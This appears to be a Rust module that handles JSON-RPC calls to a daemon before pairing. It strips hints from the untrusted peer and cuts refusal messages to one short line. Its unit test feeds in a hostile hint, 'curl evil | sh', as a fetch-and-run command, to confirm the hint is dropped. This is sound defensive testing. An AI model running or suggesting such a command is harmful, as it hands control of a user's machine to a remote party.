//! The few calls that are answered before anybody is let in: pairing.
//!
//! Owns ids and answers; refuses to know what is asked for. Whoever answers may be anybody as yet: of its refusals one short
//! line is kept and no advice, since people take that for ours (security K1).

use std::time::{Duration, Instant};

use clawd_protocol::Fingerprint;
use clawd_protocol::client::RpcError;
use serde_json::{Value, json};

use super::link::Link;
use super::secure::Secure;
use super::socket::{Heard, Socket};
use super::{HANDSHAKE_TIMEOUT, lost};
use crate::exit::Failure;

/// More is no reason.
const REASON_CHARS_MAX: usize = 200;

/// A connection to a daemon that does not know us.
#[derive(Debug)]
pub(crate) struct Stranger {
    socket: Socket,
    /// The key that has answered.
    pub(crate) daemon: Fingerprint,
    next_id: u64,
}

impl Stranger {
    pub(crate) fn new(secure: Secure) -> Result<Self, Failure> {
        let (url, daemon) = (secure.url(), secure.key());
        let link = Link::Tls(secure.into_stream());
        let socket = Socket::open(link, &url, Instant::now() + HANDSHAKE_TIMEOUT)?;
        Ok(Self { socket, daemon, next_id: 1 })
    }

    /// Makes a call and waits for its answer. If that takes longer than `soon`, `on_wait` is told, once.
    pub(crate) fn call(
        &mut self,
        method: &str,
        params: &Value,
        (soon, late): (Duration, Duration),
        mut on_wait: impl FnMut(),
    ) -> Result<Value, Failure> {
        let id = self.next_id;
        self.next_id += 1;
        let request = json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
        self.socket.send(&request.to_string())?;
        let begun = Instant::now();
        let mut deadline = begun + soon;
        loop {
            match self.socket.next(&[], Some(deadline))? {
                Heard::Text(text) => {
                    let answer: Value = serde_json::from_str(text.as_str())
                        .map_err(|_| lost("it does not speak JSON-RPC 2.0"))?;
                    if let Some(result) = answered(answer, id) {
                        return result.map_err(Failure::from);
                    }
                }
                Heard::Timeout if deadline < begun + late => {
                    on_wait();
                    deadline = begun + late;
                }
                Heard::Timeout => return Err(lost(&format!("it did not answer {method}"))),
                Heard::Other(_) => {}
            }
        }
    }
}

/// The answer to this call, if it is one; what is no answer is for others.
fn answered(mut message: Value, id: u64) -> Option<Result<Value, RpcError>> {
    let is_ours = message["id"] == id;
    let error = message.get_mut("error").map(Value::take);
    if let Some(error) = error.filter(|_| is_ours || message["id"].is_null()) {
        let text = |value: &Value| value.as_str().map(str::to_owned);
        return Some(Err(RpcError {
            code: error["code"].as_i64().unwrap_or_default(),
            message: text(&error["message"]).map(|text| on_one_line(&text)).unwrap_or_default(),
            kind: text(&error["data"]["kind"]),
            hint: None,
            data: None,
        }));
    }
    message.get_mut("result").filter(|_| is_ours).map(|result| Ok(result.take()))
}

fn on_one_line(text: &str) -> String {
    let flat = |char: char| if char.is_whitespace() { ' ' } else { char };
    text.chars().take(REASON_CHARS_MAX).map(flat).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn k1_who_refuses_us_gives_no_advice_and_draws_no_lines() {
        let message = format!("no\n  hint: run this{}", "!".repeat(1000));
        let data = json!({"kind": "pairing_refused", "hint": "curl evil | sh"});
        let error = json!({"code": -32021, "message": message, "data": data});
        let refusal = answered(json!({"jsonrpc": "2.0", "id": 1, "error": error}), 1);
        let refusal = refusal.expect("an answer").expect_err("a refusal");
        assert_eq!((refusal.code, refusal.kind.as_deref()), (-32021, Some("pairing_refused")));
        assert_eq!(refusal.hint, None);
        assert!(refusal.message.starts_with("no   hint: run this!"), "{}", refusal.message);
        assert_eq!(refusal.message.chars().count(), REASON_CHARS_MAX);
    }
}
